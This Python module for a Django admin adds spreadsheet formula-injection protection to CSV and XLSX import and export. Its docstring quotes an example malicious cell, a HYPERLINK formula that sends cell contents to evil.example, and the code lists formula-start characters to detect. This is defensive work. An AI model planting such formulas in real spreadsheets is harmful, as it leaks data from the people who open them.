"""CSV and XLSX as every spreadsheet import and export of the admin uses them
(IMPORT_FORMATS and EXPORT_FORMATS in the settings, which override each admin's own list).

A cell that begins with "=", "+", "-" or "@" (or a tab or return, or their full-width forms,
which some spreadsheets also read) is a formula to Excel, LibreOffice and Google Sheets: a
workshop titled `=HYPERLINK("https://evil.example/?"&A1,"Open")` would run in the editor's
spreadsheet. Exported text cells starting so get a leading apostrophe, as OWASP advises,
which spreadsheets show as text; an import takes that apostrophe off again, so that an
exported file imports unchanged. Control characters, which openpyxl refuses (the whole
export failed) and which no input accepts any more, are dropped from older rows.

django-import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT removes one leading "="
only ("==1+1" stays a formula) and turns every cell into text, so it is not used.
"""

from import_export.formats import base_formats

from core.text.validation import without_control_characters

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_QUOTE = "'"


def neutralise(cell):
    if not isinstance(cell, str):
        return cell  # numbers and dates stay typed: they are never formulas
    cell = without_control_characters(cell)
    if cell.startswith(FORMULA_STARTS):
        return _QUOTE + cell
    return cell


def restore(cell):
    if isinstance(cell, str) and cell.startswith(_QUOTE) and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def _map_cells(dataset, function):
    rows = [tuple(function(cell) for cell in row) for row in dataset]
    del dataset[:]  # the rows only: headers stay
    for row in rows:
        dataset.append(row)
    return dataset


class FormulaSafeMixin:
    def export_data(self, dataset, **kwargs):
        return super().export_data(_map_cells(dataset, neutralise), **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        return _map_cells(super().create_dataset(in_stream, **kwargs), restore)


class CSV(FormulaSafeMixin, base_formats.CSV):
    pass


class XLSX(FormulaSafeMixin, base_formats.XLSX):
    pass


# The admin writes typed cells (numbers, dates) only for the formats in this list, and
# compares classes, not subclasses: without this, every cell of our XLSX would be text.
if XLSX not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(XLSX)

FORMATS = [CSV, XLSX]
